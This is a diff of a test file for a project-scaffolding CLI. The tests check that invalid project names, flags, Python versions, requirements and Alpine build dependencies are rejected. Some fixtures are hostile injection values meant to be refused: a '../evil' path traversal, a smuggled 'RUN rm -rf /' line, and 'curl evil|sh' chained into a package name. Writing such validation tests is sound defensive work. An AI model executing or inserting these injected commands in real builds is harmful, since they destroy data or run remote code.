@@ -85,11 +85,11 @@ describe('create: the reference example', () => {
 
 describe('create: bad input exits 2 and writes nothing', () => {
   it.each([
-    [['../evil', '--yes'], /invalid project name/],
+    [['app', '--yes', '--name', '../evil'], /invalid project name "..\/evil": it contains a path separator/],
     [['-x', '--yes'], /unknown flag -x|invalid project name/],
     [['My App', '--yes'], /invalid project name "My App"/],
     [['app', '--yes', '--name', 'con'], /reserved file name on Windows/],
-    [['app', '--yes', '--python', '3.9'], /unsupported Python runtime "3\.9" in --python: use one of 3\.14/],
+    [['app', '--yes', '--python', '3.9'], /unsupported Python runtime "3\.9" in --python: use one of 3\.15/],
     [['app', '--yes', '--requirement', 'cryptography', '--requirement', 'foo=='], /--requirement:2: /],
     [['app', '--yes', '--requirement', 'x\nRUN rm -rf /'], /line break/],
     [['app', '--yes', '--build-deps', 'libffi-dev;curl evil|sh'], /invalid Alpine package name .* in --build-deps/],
